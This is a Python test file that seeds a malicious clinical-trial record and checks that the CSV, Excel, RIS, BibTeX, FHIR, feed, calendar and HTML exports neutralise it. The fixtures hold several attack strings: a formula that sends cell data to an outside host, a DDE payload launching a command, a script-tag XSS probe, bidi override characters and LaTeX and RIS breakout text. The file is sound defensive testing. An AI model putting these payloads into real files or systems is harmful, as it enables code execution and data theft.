"""A record that means harm, through every surface: nothing runs, nothing of it is lost."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from io import BytesIO

import bibtexparser
import openpyxl
import pytest
import rispy

from tests.integration.catalogue import publish
from tests.integration.exports.conftest import resources_of
from tests.records import study
from tests.records.parts import location, sponsor
from trials.exports.cells import LONGEST
from trials.exports.columns import COLUMNS

pytestmark = pytest.mark.django_db
Get = Callable[[str], bytes]
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
TITLE = f"{FORMULA} <script>alert(1)</script> \u202eevil\u202c {{\\input{{x}}}}\nER  - \nTY  - JOUR"
LONG = "stem cells " * 100_000  # over 1 MB
ALL = ",".join(column.name for column in COLUMNS)


@pytest.fixture(autouse=True)
def malicious(db: None) -> None:
    publish(
        study(
            nct_id="NCT90000666",
            brief_title=TITLE,
            official_title=f"\t{FORMULA}",
            acronym="＝1+1",
            eligibility_criteria=LONG,
            org_study_id="@SUM(1+1)*cmd|' /C calc'!A0",
            also={"protocolSection.sponsorCollaboratorsModule.leadSponsor": sponsor("-2+3\r\n+4")},
            locations=[location("  =1+1", "\u00a0+City", "Peru", zip="+1")],
        )
    )


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("rows", ["study", "site"])
def test_no_line_of_a_csv_cell_begins_a_formula(get: Get, rows: str) -> None:
    for row in csv_rows(get(f"/export/studies.csv?rows={rows}&columns={ALL}")):
        for cell in row:
            if re.fullmatch(r"-?\d+(\.\d+)?", cell):
                continue
            assert not re.search(r"(^|\n)([\s\u200d]*[=+\-@＝＋－＠]|\t|\r)", cell), cell[:80]
            assert not re.search("[\x00-\x08\u202a-\u202e\u2066-\u2069]", cell)
            assert len(cell) <= LONGEST


def test_a_cut_text_says_so_and_stands_whole_in_json(get: Get) -> None:
    (_head, row) = csv_rows(get("/export/studies.csv?columns=eligibility_criteria"))
    assert row[1].endswith("characters in all; the JSON file has the whole text]")
    (whole,) = json.loads(get("/export/studies.json?columns=eligibility_criteria"))["rows"]
    assert whole["eligibility_criteria"].strip() == LONG.strip()


@pytest.mark.parametrize("rows", ["study", "site"])
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(get: Get, rows: str) -> None:
    body = get(f"/export/studies.xlsx?rows={rows}&columns={ALL}")
    sheet = openpyxl.load_workbook(BytesIO(body))["Studies"]
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert all(cell.hyperlink is None for cell in cells)
    assert any(str(cell.value).startswith(FORMULA) for cell in cells)
    assert all(len(str(cell.value)) <= LONGEST for cell in cells)


def test_ris_can_not_be_broken_out_of(get: Get) -> None:
    (entry,) = rispy.loads(get("/export/studies.ris").decode())
    assert entry["type_of_reference"] == "RPRT"
    assert entry["title"].startswith(FORMULA)
    assert entry["title"].endswith("ER - TY - JOUR")


def test_bibtex_can_not_be_broken_out_of(get: Get) -> None:
    text = get("/export/studies.bib").decode()
    library = bibtexparser.parse_string(text)  # type: ignore[attr-defined]
    assert not library.failed_blocks
    (entry,) = library.entries
    assert entry.key == "NCT90000666"
    assert r"\input" not in text


def test_fhir_stays_valid(get: Get) -> None:
    (resource,) = resources_of(get("/export/studies.fhir.json"))
    title = resource.title
    assert title.startswith(FORMULA)
    assert "\u202e" not in title


@pytest.mark.parametrize("address", ["/trials/feed.atom", "/trials/NCT90000666/feed.atom"])
def test_feeds_hold_text_alone(get: Get, address: str) -> None:
    body = get(address)
    assert b"<script" not in body
    assert "\u202e".encode() not in body
    assert "script" in "".join(ET.fromstring(body).itertext())


def test_calendar_lines_can_not_be_broken_out_of(get: Get) -> None:
    body = get("/trials/NCT90000666/dates.ics")
    assert b"\r\nER  -" not in body
    assert all(len(line) <= 75 for line in body.split(b"\r\n"))


@pytest.mark.parametrize("address", ["/export/", "/export/?q=%3Cscript%3Ealert(1)%3C/script%3E"])
def test_the_page_escapes(get: Get, address: str) -> None:
    assert b"<script" not in get(address)
